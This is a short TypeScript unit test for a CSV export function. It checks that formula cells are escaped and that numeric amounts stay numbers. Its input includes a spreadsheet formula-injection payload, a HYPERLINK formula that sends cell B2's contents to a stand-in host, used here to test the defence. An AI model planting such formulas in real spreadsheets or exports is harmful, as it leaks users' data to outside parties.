import { toCsv } from './csv-export.interceptor';

describe(toCsv.name, () => {
  it('should defuse cells a spreadsheet would run, and keep amounts numbers', () => {
    const csv = toCsv([
      { key: '=HYPERLINK("https://example.invalid/?"&B2,"open")', billedCost: '-0.01' },
      { key: 'Compute', billedCost: '12.5', tags: { app: '@claims' } },
    ]);
    expect(csv).toBe(
      'key,billedCost,tags\n"\'=HYPERLINK(""https://example.invalid/?""&B2,""open"")",-0.01,\nCompute,12.5,"{""app"":""@claims""}"\n',
    );
  });
});
